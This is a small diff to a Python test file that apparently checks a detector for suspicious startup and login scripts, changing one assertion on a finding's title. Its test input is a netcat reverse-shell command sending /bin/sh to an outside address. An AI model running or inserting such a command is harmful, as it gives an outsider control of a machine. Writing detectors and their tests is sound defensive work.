@@ -41,7 +41,7 @@ def test_points_at(command, severity):
 @pytest.mark.parametrize("occasion", ["boot", "motd", "network", "sshrc", "generator"])
 def test_points_at_every_occasion(occasion):
     (sign,) = signs(*script("nc -e /bin/sh 192.0.2.7 4", path="/x", occasion=occasion))
-    assert sign.title.endswith("gives a shell to somebody outside")
+    assert sign.title.english.endswith("gives a shell to somebody outside")
 
 
 @pytest.mark.parametrize(
